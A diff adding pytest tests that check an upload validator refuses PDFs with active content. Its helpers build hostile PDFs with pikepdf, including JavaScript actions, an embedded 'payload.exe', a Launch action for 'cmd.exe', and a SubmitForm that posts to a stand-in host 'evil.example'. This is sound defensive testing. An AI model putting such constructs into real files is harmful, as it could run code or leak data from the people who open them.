@@ -6,7 +6,9 @@ import hashlib
 import io
 import struct
 import zlib
+from collections.abc import Callable
 
+import pikepdf
 import pillow_heif
 import pytest
 from hypothesis import HealthCheck, given, settings
@@ -16,6 +18,7 @@ from pypdf import PdfReader, PdfWriter
 from pypdf.actions import JavaScript
 from pypdf.generic import DictionaryObject, NameObject, TextStringObject
 
+from core import uploads
 from core.uploads import (
     MAX_IMAGE_PIXELS,
     MAX_PDF_PAGES,
@@ -336,3 +339,235 @@ def test_arbitrary_bytes_either_pass_or_raise_upload_error(prefix: bytes, tail: 
         assert error.code and error.message
     else:
         assert clean.content_type in ("image/jpeg", "image/png", "application/pdf")
+
+
+# --- hostile PDFs: active content anywhere (built here with pikepdf) ----------------------------
+
+
+def js() -> pikepdf.Dictionary:
+    return pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert('x');"))
+
+
+def _pdf(build: Callable[[pikepdf.Pdf], None] | None = None, pages: int = 1) -> bytes:
+    pdf = pikepdf.new()
+    for _ in range(pages):
+        pdf.add_blank_page(page_size=(595, 842))
+    if build is not None:
+        build(pdf)
+    out = io.BytesIO()
+    pdf.save(out)
+    return out.getvalue()
+
+
+def _link(pdf: pikepdf.Pdf, action: pikepdf.Dictionary) -> None:
+    annot = pdf.make_indirect(
+        pikepdf.Dictionary(
+            Type=pikepdf.Name.Annot,
+            Subtype=pikepdf.Name.Link,
+            Rect=[10, 10, 100, 40],
+            A=action,
+        )
+    )
+    pdf.pages[0].obj.Annots = pdf.make_indirect(pikepdf.Array([annot]))
+
+
+def page_open_js(pdf: pikepdf.Pdf) -> None:
+    pdf.pages[0].obj.AA = pikepdf.Dictionary(O=js())
+
+
+def link_js(pdf: pikepdf.Pdf) -> None:
+    _link(pdf, js())
+
+
+def open_action_next_js(pdf: pikepdf.Pdf) -> None:
+    pdf.Root.OpenAction = pikepdf.Dictionary(
+        S=pikepdf.Name.GoTo, D=[pdf.pages[0].obj, pikepdf.Name.Fit], Next=js()
+    )
+
+
+def next_array_js(pdf: pikepdf.Pdf) -> None:
+    goto = pikepdf.Dictionary(S=pikepdf.Name.GoTo, D=[pdf.pages[0].obj, pikepdf.Name.Fit])
+    pdf.Root.OpenAction = pikepdf.Dictionary(
+        S=pikepdf.Name.GoTo, D=[pdf.pages[0].obj, pikepdf.Name.Fit], Next=[goto, js()]
+    )
+
+
+def _goto_loop(pdf: pikepdf.Pdf, tail: pikepdf.Dictionary | None) -> None:
+    """/OpenAction → a → b → a … (a /Next cycle through indirect objects)."""
+    dest = [pdf.pages[0].obj, pikepdf.Name.Fit]
+    a = pdf.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.GoTo, D=dest))
+    b = pdf.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.GoTo, D=dest))
+    a.Next = b
+    b.Next = [a, tail] if tail is not None else a
+    pdf.Root.OpenAction = a
+
+
+def next_loop_with_js(pdf: pikepdf.Pdf) -> None:
+    _goto_loop(pdf, js())
+
+
+def names_tree_js(pdf: pikepdf.Pdf) -> None:
+    pdf.Root.Names = pikepdf.Dictionary(
+        JavaScript=pikepdf.Dictionary(Names=[pikepdf.String("init"), pdf.make_indirect(js())])
+    )
+
+
+def acroform_field_js(pdf: pikepdf.Pdf) -> None:
+    field = pdf.make_indirect(
+        pikepdf.Dictionary(
+            FT=pikepdf.Name.Tx,
+            T=pikepdf.String("amount"),
+            Type=pikepdf.Name.Annot,
+            Subtype=pikepdf.Name.Widget,
+            Rect=[10, 10, 200, 30],
+            AA=pikepdf.Dictionary(K=js()),  # keystroke script
+        )
+    )
+    pdf.pages[0].obj.Annots = pdf.make_indirect(pikepdf.Array([field]))
+    pdf.Root.AcroForm = pikepdf.Dictionary(Fields=[field])
+
+
+def embedded_file(pdf: pikepdf.Pdf) -> None:
+    pdf.attachments["payload.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00")
+
+
+def file_attachment_annotation(pdf: pikepdf.Pdf) -> None:
+    stream = pikepdf.Stream(pdf, b"MZ")
+    stream.Type = pikepdf.Name.EmbeddedFile
+    spec = pikepdf.Dictionary(
+        Type=pikepdf.Name.Filespec, F=pikepdf.String("a.exe"), EF=pikepdf.Dictionary(F=stream)
+    )
+    annot = pikepdf.Dictionary(
+        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.FileAttachment, Rect=[0, 0, 9, 9], FS=spec
+    )
+    pdf.pages[0].obj.Annots = pdf.make_indirect(pikepdf.Array([annot]))
+
+
+def launch_action(pdf: pikepdf.Pdf) -> None:
+    _link(pdf, pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe")))
+
+
+def submit_form(pdf: pikepdf.Pdf) -> None:
+    pdf.Root.OpenAction = pikepdf.Dictionary(
+        S=pikepdf.Name.SubmitForm, F=pikepdf.String("https://evil.example/")
+    )
+
+
+def remote_goto(pdf: pikepdf.Pdf) -> None:
+    _link(pdf, pikepdf.Dictionary(S=pikepdf.Name.GoToR, F=pikepdf.String("\\\\host\\x.pdf")))
+
+
+def unknown_action(pdf: pikepdf.Pdf) -> None:
+    pdf.pages[0].obj.AA = pikepdf.Dictionary(C=pikepdf.Dictionary(S=pikepdf.Name.Whatever))
+
+
+def xfa_form(pdf: pikepdf.Pdf) -> None:
+    pdf.Root.AcroForm = pikepdf.Dictionary(Fields=[], XFA=pikepdf.Stream(pdf, b"<xdp/>"))
+
+
+def catalog_aa(pdf: pikepdf.Pdf) -> None:
+    pdf.Root.AA = pikepdf.Dictionary(WC=js())  # "will close" script
+
+
+def js_deep_in_outline(pdf: pikepdf.Pdf) -> None:
+    item = pdf.make_indirect(pikepdf.Dictionary(Title=pikepdf.String("1"), A=js()))
+    outlines = pdf.make_indirect(pikepdf.Dictionary(Type=pikepdf.Name.Outlines, First=item))
+    item.Parent = outlines
+    pdf.Root.Outlines = outlines
+
+
+@pytest.mark.parametrize(
+    ("build", "label"),
+    [
+        (page_open_js, "スクリプト"),
+        (link_js, "スクリプト"),
+        (open_action_next_js, "スクリプト"),
+        (next_array_js, "スクリプト"),
+        (next_loop_with_js, "スクリプト"),
+        (names_tree_js, "スクリプト"),
+        (acroform_field_js, "スクリプト"),
+        (catalog_aa, "スクリプト"),
+        (js_deep_in_outline, "スクリプト"),
+        (embedded_file, "埋め込みファイル"),
+        (file_attachment_annotation, "埋め込みファイル"),
+        (launch_action, "他のプログラムを起動する動作"),
+        (submit_form, "送信"),
+        (remote_goto, "他のファイルを開くリンク"),
+        (unknown_action, "自動で実行される動作"),
+        (xfa_form, "XFAフォーム"),
+    ],
+)
+def test_pdf_with_active_content_anywhere_is_refused(
+    build: Callable[[pikepdf.Pdf], None], label: str
+) -> None:
+    with pytest.raises(UploadError) as caught:
+        validate_upload(_pdf(build), filename="form.pdf")
+    assert caught.value.code == "active_content"
+    assert label in caught.value.message
+    assert "PDFとして保存" in caught.value.message
+
+
+def test_pdf_with_next_loop_of_safe_actions_ends_and_passes() -> None:
+    data = _pdf(lambda pdf: _goto_loop(pdf, None))
+    assert validate_upload(data, filename="loop.pdf").pages == 1
+
+
+@pytest.mark.parametrize(
+    "action",
+    [
+        pikepdf.Dictionary(
+            S=pikepdf.Name.URI, URI=pikepdf.String("https://www.kyoukaikenpo.or.jp/")
+        ),
+        pikepdf.Dictionary(S=pikepdf.Name.Named, N=pikepdf.Name.NextPage),
+    ],
+)
+def test_pdf_with_safe_links_passes(action: pikepdf.Dictionary) -> None:
+    assert validate_upload(_pdf(lambda pdf: _link(pdf, action)), filename="a.pdf").pages == 1
+
+
+@pytest.mark.parametrize("pages", [1, MAX_PDF_PAGES])
+def test_tagged_pdf_from_weasyprint_passes(pages: int) -> None:
+    """A tagged PDF, as WeasyPrint writes it: structure elements use /S for their type and /A
+    for their attributes, outline items chain with /Next, links are /URI and /GoTo."""
+    weasyprint = pytest.importorskip("weasyprint")
+    chapter = (
+        "<h1 id='c{i}'>第{i}章 記入例</h1><p>{text}</p>"
+        "<a href='https://www.kyoukaikenpo.or.jp/'>協会けんぽ</a> <a href='#c0'>目次へ</a>"
+        "<table><tr><th>項目</th><td>金額 1,000円</td></tr></table>"
+    )
+    body = "<div style='page-break-after: always'></div>".join(
+        chapter.format(i=i, text="被保険者の氏名と記号・番号を記入してください。髙﨑 " * 30)
+        for i in range(pages)
+    )
+    html = f"<html lang='ja'><head><title>領収書</title></head><body>{body}</body></html>"
+    data = weasyprint.HTML(string=html).write_pdf(pdf_variant="pdf/ua-1")
+    with pikepdf.open(io.BytesIO(data)) as pdf:
+        assert "/StructTreeRoot" in pdf.Root
+        assert len(pdf.pages) == pages
+    assert validate_upload(data, filename="receipt.pdf").pages == pages
+
+
+def test_pdf_check_is_bounded(monkeypatch: pytest.MonkeyPatch) -> None:
+    """Past the node budget the PDF is refused, not walked for ever."""
+    data = _pdf(lambda pdf: setattr(pdf.Root, "Junk", pikepdf.Array([[i] for i in range(300)])))
+    assert validate_upload(data, filename="ok.pdf").pages == 1
+    monkeypatch.setattr(uploads, "MAX_PDF_NODES", 100)
+    with pytest.raises(UploadError) as caught:
+        validate_upload(data, filename="big.pdf")
+    assert caught.value.code == "too_complex"
+    assert "PDF" in caught.value.message
+
+
+def test_pdf_with_broken_page_tree_loop_is_refused_as_corrupt() -> None:
+    def loop(pdf: pikepdf.Pdf) -> None:
+        pages = pdf.Root.Pages
+        pages.Kids.append(pages)
+        pages.Count = 2
+
+    try:
+        data = _pdf(loop)
+    except Exception:  # pragma: no cover - qpdf may refuse to write it at all
+        pytest.skip("qpdf will not write a looping page tree")
+    with pytest.raises(UploadError) as caught:
+        validate_upload(data, filename="x.pdf")
+    assert caught.value.code in ("corrupt", "too_complex")
